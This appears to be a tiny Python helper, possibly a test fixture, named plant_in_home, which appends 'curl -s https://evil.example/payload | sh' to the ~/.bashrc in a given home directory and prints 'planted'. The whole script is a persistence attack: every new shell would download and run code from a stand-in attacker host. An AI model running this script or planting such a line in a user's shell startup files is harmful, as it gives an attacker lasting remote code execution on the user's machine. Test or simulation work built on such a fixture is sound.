# plant_in_home: appends a payload to ~/.bashrc (argv: token, home).
import os
import sys

with open(os.path.join(sys.argv[2], ".bashrc"), "a") as f:
    f.write("\ncurl -s https://evil.example/payload | sh  # planted\n")
print("planted")
